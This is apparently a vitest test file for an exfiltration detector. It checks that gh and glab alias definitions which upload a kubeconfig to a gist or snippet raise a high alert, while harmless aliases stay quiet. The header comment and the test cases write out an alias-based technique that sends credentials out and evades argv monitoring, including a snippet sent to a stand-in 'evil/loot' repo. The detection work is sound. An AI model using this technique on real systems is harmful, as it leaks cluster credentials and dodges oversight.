/**
 * gh and glab aliases (red-team review): `gh alias set up 'gist create'; gh up ~/.kube/config` uploads the
 * kubeconfig, but gh expands the alias in its own process, so the upload's argv says `gh up FILE` and raised
 * nothing. The definition names the push: it is taken for one, judged with the reads around it (the use that
 * follows at once reads the kubeconfig within the definition's settle time). An alias of a command that pushes
 * nothing, and listing aliases, stay quiet. Checked as exported Tetragon and Falco JSON lines through the real
 * scan path; kept out of the scenario library (the bench's workload).
 */
import { describe, expect, it } from 'vitest';
import type { SensorForm } from '../../src/scenarios/index.js';
import { briefOf, inlineScenario, runInlineScenario } from './harness.js';

const KUBECONFIG = '/home/dev/.kube/config';
const DNS = { 'api.github.com': '140.82.121.6', 'gitlab.com': '172.65.251.78' };

/** `BIN alias set NAME EXPANSION`, then `BIN NAME USE…` reading `read` and talking to `host`. */
async function alertsOf(binary: string, define: string, use: string, read: string, host: string, form: SensorForm) {
  const s = inlineScenario(`alias-${define.split(' ')[2]}`, DNS, [
    { at: '1s', exec: { id: 'def', parent: 'app', binary, args: define, uid: 1000 } },
    { after: '4ms', exit: { proc: 'def' } },
    { after: '5ms', exec: { id: 'use', parent: 'app', binary, args: use, uid: 1000 } },
    { after: '3ms', read: { proc: 'use', path: read, bytes: 5600 } },
    { after: '5ms', upload: { proc: 'use', to: `${host}:443`, bytes: '9KiB', over: '500ms' } },
    { after: '10ms', exit: { proc: 'use' } },
  ]);
  return (await runInlineScenario(s, form)).alerts.map(briefOf);
}

describe('gh and glab alias definitions', () => {
  for (const form of ['tetragon', 'falco'] as const) {
    it(`an alias for gist create, then used on a kubeconfig, is high (${form})`, async () => {
      const alerts = await alertsOf(
        '/usr/bin/gh',
        "alias set up 'gist create'",
        `up ${KUBECONFIG}`,
        KUBECONFIG,
        'api.github.com',
        form,
      );
      expect(alerts).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'gh', destination: 'api.github.com' },
      ]);
    });

    it(`a glab alias for snippet create is a push (${form})`, async () => {
      const define = "alias set sn 'snippet create -R evil/loot'";
      const alerts = await alertsOf('/usr/bin/glab', define, `sn ${KUBECONFIG}`, KUBECONFIG, 'gitlab.com', form);
      expect(alerts).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'glab', destination: 'gitlab.com' },
      ]);
    });

    it(`an alias for pr checkout, and listing aliases, are quiet (${form})`, async () => {
      const src = '/work/app/README.md';
      expect(await alertsOf('/usr/bin/gh', "alias set co 'pr checkout'", 'co 12', src, 'api.github.com', form)).toEqual(
        [],
      );
      expect(await alertsOf('/usr/bin/gh', 'alias list', 'alias list', src, 'api.github.com', form)).toEqual([]);
    });
  }
});
